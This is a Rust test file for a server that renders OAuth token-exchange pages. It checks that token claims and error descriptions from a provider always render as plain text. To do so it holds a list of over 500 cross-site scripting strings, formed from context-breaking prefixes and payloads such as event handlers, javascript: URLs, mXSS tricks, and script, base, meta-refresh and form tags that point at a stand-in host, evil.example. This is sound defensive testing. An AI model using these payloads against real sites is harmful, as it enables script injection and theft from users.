//! Texts of a provider in the pages this server writes: whatever they are, they stay texts.

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Map, Value, json};

use super::markup::Shape;
use crate::{
    harness::TestServer,
    upstream::{Upstream, request_to, response},
};

/// What could end whatever a text stands in: an attribute, an element, a comment, a string of a script.
const ENDS: [&str; 19] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "`",
    "</script>",
    "</title>",
    "</textarea>",
    "</template>",
    "</style>",
    "-->",
    "]]>",
    "{{",
    "${",
    "\\",
    "\\u003c",
    "\u{2028}",
    "\u{feff}",
];

/// What would begin then.
const BEGINNINGS: [&str; 27] = [
    "<script>alert(1)</script>",
    "<SCRIPT/SRC=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=data:text/html,x>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "<video><source onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<script>",
    "<![CDATA[<script>alert(1)]]>",
    "<?xml version='1.0'?>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&#60;/script&#62;",
    " autofocus onfocus=alert(1) x=",
    "javascript:alert(1)//",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

/// Long texts may break, and parts of a text have colours of their own.
const WITHIN_TEXTS: [&str; 2] = ["wbr", "span class"];

/// As many texts on a page; their number must not change what the page is made of.
const ON_ONE_PAGE: usize = 27;

fn hostile_texts() -> Vec<String> {
    ENDS.iter().flat_map(|end| BEGINNINGS.map(|beginning| format!("{end}{beginning}"))).collect()
}

/// The page of a step in a new session, after the provider has answered.
async fn page_after(server: &TestServer, status: &str, body: &Value, step: &str) -> String {
    let browser = server.browser();
    browser.visit("/").await.assert_status(200);
    let upstream = Upstream::answering(response(status, "", &body.to_string())).await;
    let mut request = request_to(&upstream.at("/token"));
    request["confirm_target"] = upstream.base.clone().into();
    let reply = browser.post("/api/token-exchange", request).await;
    reply.assert_status(status[..3].parse().unwrap());
    let page = browser.visit(&format!("/flows/client-credentials?step={step}")).await;
    page.assert_status(200).text().to_owned()
}

/// Tells whether a page holds the text in some form: otherwise nothing is tested.
fn mark(texts: &[String]) -> Vec<String> {
    texts.iter().map(|text| format!("mark{text}mark")).collect()
}

/// A token whose claims have these names and values, in a response that repeats them.
fn token(texts: &[String]) -> Value {
    let numbered = texts.iter().enumerate().map(|(number, text)| (format!("{number}{text}"), json!(text)));
    let claims: Map<String, Value> = numbered.collect();
    let header = json!({"alg": "RS256", "kid": texts[0], "typ": texts[1]});
    let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    let token = format!("{}.{}.{}", part(&header), part(&claims.into()), URL_SAFE_NO_PAD.encode("nobody"));
    json!({"access_token": token, "token_type": "Bearer", "scope": "a b"})
}

fn refusal(texts: &[String]) -> Value {
    json!({"error": "invalid_scope", "error_description": texts.concat(), "error_uri": texts[0], "more": texts})
}

/// Renders every text, and compares the page with the one harmless texts make.
async fn stay_texts(status: &str, step: &str, body: fn(&[String]) -> Value) {
    let server = TestServer::start().await;
    let harmless = page_after(&server, status, &body(&mark(&vec!["x".into(); ON_ONE_PAGE])), step).await;
    assert!(harmless.matches("markxmark").count() > ON_ONE_PAGE, "the page shows no text");
    let harmless = Shape::of(&harmless).elements_but(&WITHIN_TEXTS);
    let texts = hostile_texts();
    assert!(texts.len() > 500, "{}", texts.len());
    for texts in texts.chunks(ON_ONE_PAGE) {
        let page = page_after(&server, status, &body(&mark(texts)), step).await;
        assert!(page.matches("mark").count() > 2 * ON_ONE_PAGE, "the page does not show {texts:?}");
        assert_eq!(Shape::of(&page).elements_but(&WITHIN_TEXTS), harmless, "{texts:?}");
    }
}

#[tokio::test]
async fn names_and_values_of_claims_stay_texts() {
    stay_texts("200 OK", "token", token).await;
}

#[tokio::test]
async fn what_a_refusal_says_stays_a_text() {
    stay_texts("400 Bad Request", "request", refusal).await;
}
